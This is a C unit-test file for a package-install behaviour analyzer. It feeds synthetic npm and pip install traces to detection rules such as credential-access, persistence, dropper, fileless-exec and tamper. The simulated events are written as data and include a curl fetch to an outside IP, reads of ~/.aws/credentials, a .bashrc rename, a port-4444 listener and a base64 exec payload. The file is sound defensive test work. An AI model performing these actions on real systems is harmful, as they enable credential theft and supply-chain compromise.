// SPDX-License-Identifier: GPL-2.0 OR BSD-3-Clause
/*
 * test_rules.c - one case per rule file of user/analyze/rules/: a stream
 * that makes the rule fire for the package "pkg", and a look-alike that
 * must not raise that rule at all.  Each stream is an npm install (pid
 * 100) whose package pkg runs a postinstall script (pid 101); records are
 * built raw and go through event_decode(), path folding included.
 */
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include "unit.h"
#include "evbuild.h"
#include "analyze_int.h"
#include "analyze/analyzer.h"

#define PROJ "/work/proj"
#define NM PROJ "/node_modules"
#define PKG NM "/pkg"

static struct evb B;
static const char *const base_env[] = { "HOME=/root", "PATH=/usr/local/bin:/usr/bin:/bin", NULL };
static char *si_argv[] = { "npm", "ci", NULL };
static char *si_env[] = { "HOME=/root", "PATH=/usr/local/bin:/usr/bin:/bin", NULL };
static uint64_t si_drops;
static const char *extra_fact, *extra_text; /* one more file for analyze(), or NULL */

/* a DNS query for example.com */
static const uint8_t dns_query[] = { 0xab, 0xcd, 0x01, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00,
				     7, 'e', 'x', 'a', 'm', 'p', 'l', 'e', 3, 'c', 'o', 'm', 0, 0x00, 0x01, 0x00, 0x01 };

static void script(struct analyzer *an, uint32_t pid, const char *name, const char *folder, const char *cmd)
{
	char e1[128], e2[512];
	const char *env[] = { "npm_lifecycle_event=postinstall", e1, "npm_package_version=1.0.0", e2,
			      "HOME=/root", "PATH=/usr/bin:/bin", NULL };
	const char *argv[] = { "sh", "-c", cmd, NULL };

	snprintf(e1, sizeof(e1), "npm_package_name=%s", name);
	snprintf(e2, sizeof(e2), "npm_package_json=%s/package.json", folder);
	ev_fork(&B, an, 100, pid);
	ev_exec(&B, an, pid, "/bin/sh", argv, folder, env);
}

/* pkg's postinstall starts as pid 101 */
static void pkg_script(struct analyzer *an)
{
	script(an, 101, "pkg", PKG, "node install.js");
}

/* run: child pid of 101 execs exe with argv (NULL-terminated), then exits
 * unless keep. */
static void run(struct analyzer *an, uint32_t pid, const char *exe, const char *const *argv, uint32_t flags,
		bool keep)
{
	ev_fork(&B, an, 101, pid);
	ev_exec_ret(&B, an, pid, exe, argv, PKG, base_env, 0, flags);
	if (!keep)
		ev_exit(&B, an, pid);
}

static void put(struct facts *f, const char *path, const char *text)
{
	facts_put(f, path, 0, text, strlen(text));
}

/* ---- the cases: fire, then the look-alike ---- */

static void install_script_fire(struct analyzer *an) { pkg_script(an); }
/* the project's own prepare script is no dependency's */
static void install_script_alike(struct analyzer *an) { script(an, 101, "proj", PROJ, "husky"); }

static void unexpected_exec_fire(struct analyzer *an)
{
	const char *argv[] = { "curl", "-s", "http://203.0.113.5/x", NULL };

	pkg_script(an);
	run(an, 102, "/usr/bin/curl", argv, 0, false);
}

static void unexpected_exec_alike(struct analyzer *an)
{
	const char *argv[] = { "node", "install.js", NULL };

	pkg_script(an);
	run(an, 102, "/usr/bin/node", argv, 0, false);
}

static void network_egress_fire(struct analyzer *an)
{
	pkg_script(an);
	ev_sock(&B, an, PT_EV_CONNECT, 101, "203.0.113.5", 443, SOCK_STREAM, NULL, 0);
}

/* the configured registry (.npmrc) */
static void network_egress_alike(struct analyzer *an)
{
	pkg_script(an);
	ev_sock(&B, an, PT_EV_CONNECT, 101, "127.0.0.1", 4873, SOCK_STREAM, NULL, 0);
}

static void dns_query_fire(struct analyzer *an)
{
	pkg_script(an);
	ev_sock(&B, an, PT_EV_SEND, 101, "8.8.8.8", 53, SOCK_DGRAM, dns_query, sizeof(dns_query));
}

/* the same bytes to another UDP port */
static void dns_query_alike(struct analyzer *an)
{
	pkg_script(an);
	ev_sock(&B, an, PT_EV_SEND, 101, "8.8.8.8", 123, SOCK_DGRAM, dns_query, sizeof(dns_query));
}

static void credential_access_fire(struct analyzer *an)
{
	pkg_script(an);
	ev_open(&B, an, 101, "/root/.aws/credentials", O_RDONLY);
}

static void credential_access_alike(struct analyzer *an)
{
	pkg_script(an);
	ev_open(&B, an, 101, "/root/.aws-notes.txt", O_RDONLY);
}

static void write_outside_project_fire(struct analyzer *an)
{
	pkg_script(an);
	ev_open(&B, an, 101, "/root/notes.txt", O_WRONLY | O_CREAT);
}

/* npm's own log folder: where the baseline says scripts write */
static void write_outside_project_alike(struct analyzer *an)
{
	pkg_script(an);
	ev_open(&B, an, 101, "/root/.npm/_logs/debug.log", O_WRONLY | O_CREAT);
}

/* a rename out of its own folder through "..": folded before it is judged */
static void persistence_fire(struct analyzer *an)
{
	pkg_script(an);
	ev_open(&B, an, 101, PKG "/rc", O_WRONLY | O_CREAT);
	ev_path2(&B, an, PT_EV_RENAME, 101, PKG "/rc", PKG "/../../../../root/.bashrc");
}

/* ".." that stays in the project: node_modules/.bashrc is no shell's */
static void persistence_alike(struct analyzer *an)
{
	pkg_script(an);
	ev_open(&B, an, 101, PKG "/rc", O_WRONLY | O_CREAT);
	ev_path2(&B, an, PT_EV_RENAME, 101, PKG "/rc", PKG "/../.bashrc");
}

static void command_shadowing_fire(struct analyzer *an)
{
	pkg_script(an);
	ev_path2(&B, an, PT_EV_SYMLINK, 101, NM "/.bin/aws", "../pkg/cli.js");
}

/* a command name nobody else has */
static void command_shadowing_alike(struct analyzer *an)
{
	pkg_script(an);
	ev_path2(&B, an, PT_EV_SYMLINK, 101, NM "/.bin/pkg-cli", "../pkg/cli.js");
}

static void dropper_fire(struct analyzer *an)
{
	const char *argv[] = { "/tmp/stage2", NULL };

	pkg_script(an);
	ev_open(&B, an, 101, "/tmp/stage2", O_WRONLY | O_CREAT);
	run(an, 102, "/tmp/stage2", argv, 0, false);
}

/* its own binary, copied and run inside its own folder, no network */
static void dropper_alike(struct analyzer *an)
{
	const char *argv[] = { PKG "/bin/tool", "--version", NULL };

	pkg_script(an);
	ev_open(&B, an, 101, PKG "/bin/tool", O_WRONLY | O_CREAT);
	run(an, 102, PKG "/bin/tool", argv, 0, false);
}

static void fileless_exec_fire(struct analyzer *an)
{
	const char *argv[] = { "x", NULL };

	pkg_script(an);
	run(an, 102, "/memfd:x", argv, PT_F_MEMFD, false);
}

/* a file on disk that only has memfd in its name */
static void fileless_exec_alike(struct analyzer *an)
{
	const char *argv[] = { "x", NULL };

	pkg_script(an);
	run(an, 102, "/tmp/memfd:x", argv, 0, false);
}

static void lingering_process_fire(struct analyzer *an)
{
	const char *argv[] = { "sleep", "600", NULL };

	pkg_script(an);
	run(an, 102, "/usr/bin/sleep", argv, 0, true);
}

static void lingering_process_alike(struct analyzer *an)
{
	const char *argv[] = { "sleep", "1", NULL };

	pkg_script(an);
	run(an, 102, "/usr/bin/sleep", argv, 0, false);
}

static void tamper_fire(struct analyzer *an)
{
	pkg_script(an);
	ev_open(&B, an, 101, NM "/other/index.js", O_WRONLY | O_TRUNC);
}

/* its own folder */
static void tamper_alike(struct analyzer *an)
{
	pkg_script(an);
	ev_open(&B, an, 101, PKG "/index.js", O_WRONLY | O_TRUNC);
}

static void listen_socket_fire(struct analyzer *an)
{
	pkg_script(an);
	ev_sock(&B, an, PT_EV_LISTEN, 101, "0.0.0.0", 4444, SOCK_STREAM, NULL, 0);
}

/* bound, never listening */
static void listen_socket_alike(struct analyzer *an)
{
	pkg_script(an);
	ev_sock(&B, an, PT_EV_BIND, 101, "0.0.0.0", 4444, SOCK_STREAM, NULL, 0);
}

static void privilege_change_fire(struct analyzer *an)
{
	pkg_script(an);
	ev_chmod(&B, an, 101, PKG "/helper", 04755);
}

static void privilege_change_alike(struct analyzer *an)
{
	pkg_script(an);
	ev_chmod(&B, an, 101, PKG "/helper", 0755);
}

static void trace_incomplete_fire(struct analyzer *an)
{
	pkg_script(an);
	si_drops = 5;
}

static void trace_incomplete_alike(struct analyzer *an) { pkg_script(an); }

struct rule_case {
	const char *rule;
	int sev;                      /* severity when it fires */
	const char *pkg;              /* the package it names, NULL for none */
	void (*fire)(struct analyzer *an);
	void (*alike)(struct analyzer *an);
};

static const struct rule_case cases[] = {
	{ "install-script", SEV_INFO, "pkg", install_script_fire, install_script_alike },
	{ "unexpected-exec", SEV_MEDIUM, "pkg", unexpected_exec_fire, unexpected_exec_alike },
	{ "network-egress", SEV_MEDIUM, "pkg", network_egress_fire, network_egress_alike },
	{ "dns-query", SEV_HIGH, "pkg", dns_query_fire, dns_query_alike },
	{ "credential-access", SEV_HIGH, "pkg", credential_access_fire, credential_access_alike },
	{ "write-outside-project", SEV_MEDIUM, "pkg", write_outside_project_fire, write_outside_project_alike },
	{ "persistence", SEV_HIGH, "pkg", persistence_fire, persistence_alike },
	{ "command-shadowing", SEV_HIGH, "pkg", command_shadowing_fire, command_shadowing_alike },
	{ "dropper", SEV_HIGH, "pkg", dropper_fire, dropper_alike },
	{ "fileless-exec", SEV_CRITICAL, "pkg", fileless_exec_fire, fileless_exec_alike },
	{ "lingering-process", SEV_HIGH, "pkg", lingering_process_fire, lingering_process_alike },
	{ "tamper", SEV_HIGH, "pkg", tamper_fire, tamper_alike },
	{ "listen-socket", SEV_MEDIUM, "pkg", listen_socket_fire, listen_socket_alike },
	{ "privilege-change", SEV_HIGH, "pkg", privilege_change_fire, privilege_change_alike },
	{ "trace-incomplete", SEV_MEDIUM, NULL, trace_incomplete_fire, trace_incomplete_alike },
};

/* an install: the traced command, its root process's first events and
 * the files it leaves, and the process whose exit ends it */
struct install {
	char **argv;
	int argc;
	uint32_t root, last;
	void (*prologue)(struct analyzer *an, struct facts *f);
};

/* analyze_install: the install around body, its report. */
static struct report *analyze_install(const struct install *in, void (*body)(struct analyzer *))
{
	char err[256];
	struct baseline *bl = baseline_load(NULL, err, sizeof(err));
	struct session_info si = {
		.argc = in->argc, .argv = in->argv, .cwd = PROJ, .envc = 2, .env = si_env,
		.hostname = "host", .kernel = "6.18", .start_ns = 1000, .end_ns = 5000000000ull,
		.root_pid = in->root, .exit_status = 0,
	};
	struct analyzer *an = bl ? analyzer_new(bl, &si) : NULL;
	struct facts *f = facts_new(0);
	struct report *r = NULL;

	B.clock = 0;
	si_drops = 0;
	CHECK(an != NULL);
	if (an && f) {
		if (extra_fact)
			put(f, extra_fact, extra_text);
		put(f, "/etc/resolv.conf", "nameserver 10.0.0.53\n");
		ev_root(&B, an, in->root);
		in->prologue(an, f);
		body(an);
		ev_exit(&B, an, in->last);
		si.drops = si_drops;
		r = analyzer_finish(an, &si, f);
	}
	analyzer_free(an);
	baseline_free(bl);
	facts_free(f);
	CHECK(r != NULL);
	CHECK_INT(B.bad, 0);
	return r;
}

/* `npm ci` (pid 100) in PROJ, which installs pkg and other */
static void npm_prologue(struct analyzer *an, struct facts *f)
{
	const char *argv[] = { "node", "/usr/bin/npm", "ci", NULL };

	put(f, PROJ "/package.json", "{\"name\":\"proj\",\"version\":\"1.0.0\"}");
	put(f, PROJ "/.npmrc", "registry=http://127.0.0.1:4873/\n");
	put(f, PKG "/package.json", "{\"name\":\"pkg\",\"version\":\"1.0.0\",\"scripts\":{\"postinstall\":\"node install.js\"}}");
	put(f, NM "/other/package.json", "{\"name\":\"other\",\"version\":\"2.0.0\"}");
	ev_exec(&B, an, 100, "/usr/bin/node", argv, PROJ, base_env);
	ev_sock(&B, an, PT_EV_CONNECT, 100, "127.0.0.1", 4873, SOCK_STREAM, NULL, 0);
	ev_open(&B, an, 100, PKG "/package.json", O_WRONLY | O_CREAT);
	ev_open(&B, an, 100, NM "/other/package.json", O_WRONLY | O_CREAT);
}

static struct report *analyze(void (*body)(struct analyzer *))
{
	static const struct install npm = { si_argv, 2, 100, 101, npm_prologue };

	return analyze_install(&npm, body);
}

/* find: the finding of rule (for pkg, or with no package), or NULL. */
static const struct finding *find(const struct report *r, const char *rule, const char *pkg)
{
	for (size_t i = 0; r && i < r->nfindings; i++) {
		const struct finding *f = &r->findings[i];
		const char *name = f->owner >= 0 ? r->owners[f->owner]->name : NULL;

		if (strcmp(rule_info[f->rule].id, rule))
			continue;
		if (!pkg || (name && !strcmp(name, pkg)))
			return f;
	}
	return NULL;
}

static void dump(const struct report *r)
{
	for (size_t i = 0; r && i < r->nfindings; i++)
		printf("#     %s %s: %s\n", severity_name(r->findings[i].sev), rule_info[r->findings[i].rule].id,
		       r->findings[i].summary);
}

/* every rule id has its case, and every case fires and stays quiet */
static void test_each_rule(void)
{
	CHECK_INT(sizeof(cases) / sizeof(cases[0]), R_NRULES);
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		const struct rule_case *c = &cases[i];
		struct report *fire = analyze(c->fire), *alike = analyze(c->alike);
		const struct finding *f = find(fire, c->rule, c->pkg);
		int before = unit_failed_checks;

		CHECK_STR(rule_info[i].id, c->rule);
		CHECK(f && f->sev == c->sev && f->nev >= 1);
		CHECK(!find(alike, c->rule, NULL));
		if (unit_failed_checks != before) {
			printf("# %s fire:\n", c->rule);
			dump(fire);
			printf("# %s look-alike:\n", c->rule);
			dump(alike);
		}
		report_free(fire);
		report_free(alike);
	}
}

static void bashrc_direct(struct analyzer *an)
{
	pkg_script(an);
	ev_open(&B, an, 101, PKG "/rc", O_WRONLY | O_CREAT);
	ev_path2(&B, an, PT_EV_RENAME, 101, PKG "/rc", "/root/.bashrc");
}

/* The path is folded before the rules judge it: a rename to
 * <own folder>/../../../../root/.bashrc is the finding a rename to
 * ~/.bashrc is, with the same evidence. */
static void test_persistence_through_dotdot(void)
{
	struct report *dotdot = analyze(persistence_fire), *direct = analyze(bashrc_direct);
	const struct finding *a = find(dotdot, "persistence", "pkg"), *b = find(direct, "persistence", "pkg");

	CHECK(a && b);
	if (a && b) {
		CHECK_INT(a->sev, b->sev);
		CHECK_STR(a->summary, b->summary);
		CHECK_STR(a->ev[0].path, "/root/.bashrc");
		CHECK_STR(a->ev[0].path, b->ev[0].path);
		CHECK_STR(a->ev[0].event, "rename");
	}
	report_free(dotdot);
	report_free(direct);
}

/* ---- benign look-alikes of real installs, each next to the attack it
 * resembles (issue 13) ---- */

/* sev_max: the highest severity of rule's findings (any package), or -1 */
static int sev_max(const struct report *r, const char *rule)
{
	int m = -1;

	for (size_t i = 0; r && i < r->nfindings; i++)
		if (!strcmp(rule_info[r->findings[i].rule].id, rule) && r->findings[i].sev > m)
			m = r->findings[i].sev;
	return m;
}

/* GNU make as root: setresuid(-1, 0, -1) changes nothing */
static void setid_noop_root(struct analyzer *an)
{
	static const uint32_t zero[3] = { 0, 0, 0 };

	pkg_script(an);
	ev_setid(&B, an, 101, PT_SETID_RESUID, -1, 0, zero, 0);
	ev_setid(&B, an, 101, PT_SETID_RESGID, -1, 0, zero, 0);
	ev_setid(&B, an, 101, PT_SETID_RESUID, -1, 0, NULL, 0); /* a trace without the ids after */
}

/* root dropping to nobody: a change, no escalation */
static void setid_drop_root(struct analyzer *an)
{
	static const uint32_t nobody[3] = { 65534, 65534, 65534 };

	pkg_script(an);
	ev_setid(&B, an, 101, PT_SETID_UID, 65534, -1, nobody, 0);
}

/* uid 1000 becoming root (a setuid-root helper's saved id), after a failed try
 * (run as uid 1000) */
static void setid_gain(struct analyzer *an)
{
	static const uint32_t root3[3] = { 0, 0, 0 };

	pkg_script(an);
	ev_setid(&B, an, 101, PT_SETID_UID, 0, -1, NULL, -1); /* EPERM: nothing changed */
	ev_setid(&B, an, 101, PT_SETID_UID, 0, -1, root3, 0);
}

static void setid_failed_only(struct analyzer *an)
{
	pkg_script(an);
	ev_setid(&B, an, 101, PT_SETID_UID, 0, -1, NULL, -1);
}

static void test_setid(void)
{
	struct report *noop = analyze(setid_noop_root), *drop = analyze(setid_drop_root);
	struct report *gain, *failed;

	B.uid = 1000; /* an install run as uid 1000 */
	gain = analyze(setid_gain);
	failed = analyze(setid_failed_only);
	B.uid = 0;

	CHECK_INT(sev_max(noop, "privilege-change"), -1);
	CHECK_INT(sev_max(drop, "privilege-change"), SEV_INFO);
	CHECK_INT(sev_max(gain, "privilege-change"), SEV_HIGH);
	CHECK_INT(sev_max(failed, "privilege-change"), -1);
	report_free(noop);
	report_free(drop);
	report_free(gain);
	report_free(failed);
}

/* gyp's dependency files mirror absolute paths under the package's build/ */
static void gyp_deps(struct analyzer *an)
{
	pkg_script(an);
	ev_open(&B, an, 101, PKG "/build/Release/.deps" PKG "/lib/binding/x.node.d", O_WRONLY | O_CREAT);
	ev_open(&B, an, 101, PKG "/build/Release/.deps" NM "/other/x.o.d", O_WRONLY | O_CREAT);
}

static void test_own_build_tree(void)
{
	struct report *r = analyze(gyp_deps), *attack = analyze(tamper_fire);

	CHECK_INT(sev_max(r, "tamper"), -1);
	CHECK_INT(sev_max(attack, "tamper"), SEV_HIGH);
	CHECK_INT(npm_folder_len(PKG "/build/Release/.deps" NM "/other/x"), strlen(PKG));
	CHECK_INT(npm_folder_len(NM "/a/node_modules/@s/b/lib/x.js"), strlen(NM "/a/node_modules/@s/b"));
	CHECK_INT(npm_folder_len(NM "/.pnpm/a@1.0.0/node_modules/a/index.js"),
		  strlen(NM "/.pnpm/a@1.0.0/node_modules/a"));
	CHECK_INT(npm_folder_len(NM "/.bin/x"), 0);
	CHECK_INT(npm_folder_len(NM "/.package-lock.json"), 0);
	report_free(r);
	report_free(attack);
}

/* CPython caching the bytecode of a module it imports, in another
 * package's folder (node-gyp's gyp, run by pkg's build) */
static void pyc_by_python(struct analyzer *an)
{
	const char *argv[] = { "python3", "gyp_main.py", NULL };

	pkg_script(an);
	run(an, 102, "/usr/bin/python3.11", argv, 0, true);
	ev_open(&B, an, 102, NM "/other/gyp/__init__.py", O_RDONLY);
	ev_open(&B, an, 102, NM "/other/gyp/__pycache__/__init__.cpython-311.pyc.140497584599760",
		O_WRONLY | O_CREAT | O_EXCL);
	ev_path2(&B, an, PT_EV_RENAME, 102, NM "/other/gyp/__pycache__/__init__.cpython-311.pyc.140497584599760",
		 NM "/other/gyp/__pycache__/__init__.cpython-311.pyc");
	ev_exit(&B, an, 102);
}

/* a .pyc planted by something that is not compiling that module */
static void pyc_poisoned(struct analyzer *an)
{
	const char *argv[] = { "python3", "x.py", NULL };

	pkg_script(an);
	ev_open(&B, an, 101, NM "/other/gyp/__pycache__/__init__.cpython-311.pyc", O_WRONLY | O_CREAT);
	run(an, 102, "/usr/bin/python3.11", argv, 0, true);
	ev_open(&B, an, 102, PKG "/x.py", O_RDONLY);
	ev_open(&B, an, 102, NM "/other/gyp/__pycache__/__init__.cpython-311.pyc.1", O_WRONLY | O_CREAT);
	ev_exit(&B, an, 102);
}

static void test_pycache(void)
{
	struct report *r = analyze(pyc_by_python), *attack = analyze(pyc_poisoned);
	const struct finding *f = find(attack, "tamper", "pkg");

	CHECK_INT(sev_max(r, "tamper"), -1);
	CHECK(f && f->sev == SEV_HIGH && f->count == 2);
	report_free(r);
	report_free(attack);
}

/* npm writing its cache where .npmrc's cache= says */
static void npm_cache_write(struct analyzer *an)
{
	pkg_script(an);
	ev_open(&B, an, 100, "/var/cache/npmc/_cacache/tmp/abc", O_WRONLY | O_CREAT);
	ev_open(&B, an, 100, "/var/cache/npmc/_cacache/index-v5/ab/cd/ef", O_WRONLY | O_CREAT);
}

static void npm_odd_write(struct analyzer *an)
{
	npm_cache_write(an);
	ev_open(&B, an, 100, "/var/lib/elsewhere/x", O_WRONLY | O_CREAT);
}

static void test_pm_cache(void)
{
	struct report *r, *odd;
	const struct finding *f;

	extra_fact = "/root/.npmrc";
	extra_text = "cache=/var/cache/npmc\n";
	r = analyze(npm_cache_write);
	odd = analyze(npm_odd_write);
	extra_fact = extra_text = NULL;
	CHECK_INT(sev_max(r, "write-outside-project"), -1);
	f = find(odd, "write-outside-project", NULL);
	CHECK(f && f->sev == SEV_LOW && f->count == 1 && f->nev == 1 && strstr(f->summary, "/var/lib/elsewhere/x"));
	report_free(r);
	report_free(odd);
}

static void test_dns_names_query(void)
{
	struct report *r = analyze(dns_query_fire);
	const struct finding *f = find(r, "dns-query", "pkg");

	CHECK(f && strstr(f->summary, "example.com") && !strncmp(f->summary, "pkg ", 4));
	report_free(r);
}

/* ---- pip: `.venv/bin/pip install rw_setuppy-1.2.3.tar.gz` in the project ---- */
#define VENV PROJ "/.venv"
#define SITE VENV "/lib/python3.11/site-packages"
#define BUILD "/tmp/pip-req-build-abc123"
#define SDIST "/dist/rw_setuppy-1.2.3.tar.gz"
#define SHIM "\nexec(compile('''\n# This is <pip-setuptools-caller> -- a caller that pip uses to run setup.py\n" \
	     "import setuptools\n''' % ('" BUILD "/setup.py',), \"<pip-setuptools-caller>\", \"exec\"))\n"

/* a hook pip starts: its setuptools caller running setup.py CMD */
static void pip_hook(struct analyzer *an, uint32_t pid, const char *cmd)
{
	const char *argv[] = { VENV "/bin/python3.11", "-u", "-c", SHIM, cmd, "--record",
			       "/tmp/pip-record-x/install-record.txt", "--single-version-externally-managed",
			       "--compile", NULL };

	ev_fork(&B, an, 300, pid);
	ev_exec(&B, an, pid, "/usr/bin/python3.11", argv, BUILD, base_env);
}

/* the legacy path: setuptools' own `setup.py install` writes the venv */
static void pip_legacy(struct analyzer *an)
{
	pip_hook(an, 301, "install");
	ev_open(&B, an, 301, SITE "/rw_setuppy/__init__.py", O_WRONLY | O_CREAT);
	ev_open(&B, an, 301, SITE "/rw_setuppy/__init__.py", O_RDONLY);
	ev_open(&B, an, 301, SITE "/rw_setuppy/__pycache__/__init__.cpython-311.pyc.77", O_WRONLY | O_CREAT);
	ev_open(&B, an, 301, SITE "/rw_setuppy-1.2.3-py3.11.egg-info/PKG-INFO", O_WRONLY | O_CREAT);
	ev_exit(&B, an, 301);
	ev_open(&B, an, 300, SITE "/rw_setuppy-1.2.3-py3.11.egg-info/installed-files.txt", O_WRONLY | O_CREAT);
}

/* the same install step also rewriting another distribution's module */
static void pip_legacy_tamper(struct analyzer *an)
{
	pip_hook(an, 301, "install");
	ev_open(&B, an, 301, SITE "/rw_setuppy/__init__.py", O_WRONLY | O_CREAT);
	ev_open(&B, an, 301, SITE "/requests/__init__.py", O_WRONLY | O_TRUNC);
	ev_exit(&B, an, 301);
	ev_open(&B, an, 300, SITE "/rw_setuppy-1.2.3-py3.11.egg-info/installed-files.txt", O_WRONLY | O_CREAT);
}

/* a build that failed before writing any metadata */
static void pip_failed(struct analyzer *an)
{
	pip_hook(an, 301, "bdist_wheel");
	ev_open(&B, an, 301, BUILD "/build/lib/rw_setuppy/__init__.py", O_WRONLY | O_CREAT);
	ev_exit(&B, an, 301);
}

/* a build step (not pip's install) writing into the venv, and an inline
 * payload its setup.py runs */
static void pip_attack(struct analyzer *an)
{
	const char *payload[] = { "python3", "-c", "import base64;exec(base64.b64decode('cHJpbnQoMSk='))", NULL };

	pip_hook(an, 301, "bdist_wheel");
	ev_open(&B, an, 301, SITE "/requests/__init__.py", O_WRONLY | O_TRUNC);
	ev_fork(&B, an, 301, 302);
	ev_exec(&B, an, 302, "/usr/bin/python3.11", payload, BUILD, base_env);
	ev_exit(&B, an, 302);
	ev_exit(&B, an, 301);
}

/* `.venv/bin/pip install SDIST` (pid 300): python reads pyvenv.cfg, pip
 * opens the sdist and unpacks it into its build folder */
static void pip_prologue(struct analyzer *an, struct facts *f)
{
	const char *argv[] = { VENV "/bin/python3.11", VENV "/bin/pip", "install", SDIST, NULL };

	put(f, SITE "/rw_setuppy-1.2.3-py3.11.egg-info/PKG-INFO",
	    "Metadata-Version: 2.1\nName: rw-setuppy\nVersion: 1.2.3\nSummary: x\n\nName: not-this\n");
	put(f, SITE "/rw_setuppy-1.2.3-py3.11.egg-info/installed-files.txt",
	    "../rw_setuppy/__init__.py\n../rw_setuppy/__pycache__/__init__.cpython-311.pyc\nPKG-INFO\n");
	ev_exec(&B, an, 300, "/usr/bin/python3.11", argv, PROJ, base_env);
	ev_open(&B, an, 300, VENV "/pyvenv.cfg", O_RDONLY);
	ev_open(&B, an, 300, SDIST, O_RDONLY);
	ev_open(&B, an, 300, BUILD "/setup.py", O_WRONLY | O_CREAT);
}

static struct report *analyze_pip(void (*body)(struct analyzer *))
{
	static char *argv[] = { VENV "/bin/pip", "install", SDIST, NULL };
	static const struct install pip = { argv, 3, 300, 300, pip_prologue };

	return analyze_install(&pip, body);
}

static const struct owner *owner_named(const struct report *r, const char *name)
{
	for (size_t i = 0; r && i < r->nowners; i++)
		if (r->owners[i]->name && !strcmp(r->owners[i]->name, name))
			return r->owners[i];
	return NULL;
}

/* named from its metadata, its summaries too; no finding above info; no
 * npm words in the text report */
static void test_pip_legacy_install(void)
{
	struct report *r = analyze_pip(pip_legacy);
	const struct owner *o = owner_named(r, "rw-setuppy");
	const struct finding *f = find(r, "install-script", "rw-setuppy");
	char *text = NULL;
	size_t len = 0;
	FILE *out = open_memstream(&text, &len);
	int before = unit_failed_checks;

	CHECK(o && o->version && !strcmp(o->version, "1.2.3"));
	CHECK(f && !strcmp(f->summary, "rw-setuppy ran its build script"));
	CHECK_INT(report_max_severity(r), SEV_INFO);
	if (out) {
		if (r)
			report_write(r, out, FMT_TEXT, false);
		fclose(out);
		CHECK(text && strstr(text, "rw-setuppy") && !strstr(text, "allowScripts") && !strstr(text, "by npm"));
	}
	free(text);
	if (unit_failed_checks != before)
		dump(r);
	report_free(r);
}

/* no metadata at all: the sdist's file name, never the build folder */
static void test_pip_failed_build(void)
{
	struct report *r = analyze_pip(pip_failed);
	const struct owner *o = owner_named(r, "rw_setuppy");

	CHECK(o && o->version && !strcmp(o->version, "1.2.3"));
	CHECK(!owner_named(r, "pip-req-build-abc123"));
	report_free(r);
}

static void test_pip_attack(void)
{
	struct report *r = analyze_pip(pip_attack), *legacy = analyze_pip(pip_legacy_tamper);
	const struct finding *f = find(legacy, "tamper", "rw_setuppy"); /* named by its sdist */

	CHECK_INT(sev_max(r, "tamper"), SEV_HIGH);
	CHECK_INT(sev_max(r, "unexpected-exec"), SEV_MEDIUM);
	CHECK(f && f->sev == SEV_HIGH && f->count == 1 && strstr(f->summary, "/requests/__init__.py"));
	report_free(r);
	report_free(legacy);
}

int main(void)
{
	TEST(test_each_rule);
	TEST(test_persistence_through_dotdot);
	TEST(test_setid);
	TEST(test_own_build_tree);
	TEST(test_pycache);
	TEST(test_pm_cache);
	TEST(test_dns_names_query);
	TEST(test_pip_legacy_install);
	TEST(test_pip_failed_build);
	TEST(test_pip_attack);
	return unit_failed_tests ? 1 : 0;
}
